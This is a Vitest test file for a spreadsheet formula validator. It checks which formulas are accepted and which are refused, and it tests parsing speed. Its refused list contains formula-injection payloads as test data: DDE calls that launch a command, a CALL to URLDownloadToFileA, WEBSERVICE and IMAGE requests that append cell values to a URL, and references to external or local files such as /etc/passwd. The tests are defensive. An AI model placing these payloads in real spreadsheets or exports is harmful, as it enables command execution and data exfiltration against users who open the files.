import { expect, it } from "vitest";
import { findFormulaProblem } from "../../../core/documents/formula.ts";

it.each([
  "=SUM(B2:B9)",
  "=IF(A1<B1,\"a|b\",'Sheet 2'!C3)",
  '=HYPERLINK("#Sheet2!A1","there")',
  '=SUMIFS(Sales[Amount],Sales[City],"Oslo")',
  '=A1&" CALL(x) "&B1',
  "=-(1+2)%",
])("takes %s", (formula) => {
  expect(findFormulaProblem(formula)).toBeNull();
});

it.each([
  "SUM(A1)",
  "",
  "=",
  "=cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"x")',
  '=WEBSERVICE("https://example.com/?"&A1)',
  '=webservice ("https://example.com")',
  '=_xlfn.WEBSERVICE("https://example.com")',
  '=IMPORTXML("https://example.com","//a")',
  '=IMAGE("https://example.com/"&A1)',
  '=_xlfn.IMAGE("https://example.com/"&A1)',
  '=RTD("x",,"y")',
  '=CALL("urlmon","URLDownloadToFileA","JJCCJJ",0)',
  '=REGISTER.ID("a","b")',
  "='[other.xlsx]Sheet1'!A1",
  "=[1.xls]Sheet1!A1",
  "='https://example.com/[a.xlsx]S'!A1",
  "='\\\\server\\share\\[a.xlsx]S'!A1",
  "='file:///etc/passwd'#$Sheet1.A1",
])("refuses %s", (formula) => {
  expect(findFormulaProblem(formula)).toEqual(expect.any(String));
});

it("judges long words and many brackets in linear time", () => {
  for (let again = 0; again < 300; again += 1) {
    expect(findFormulaProblem(`=${"a".repeat(8_000)}`)).toBeNull();
    expect(findFormulaProblem(`=${"[".repeat(8_000)}`)).toBeNull();
  }
  expect(findFormulaProblem("=1+_xlfn.WEBSERVICE (A1)")).toContain("WEBSERVICE");
  expect(findFormulaProblem("=Table[[#This Row],[a]]")).toBeNull();
  expect(findFormulaProblem("=[[Book.xlsx]]Sheet1!A1")).toContain("another file");
});
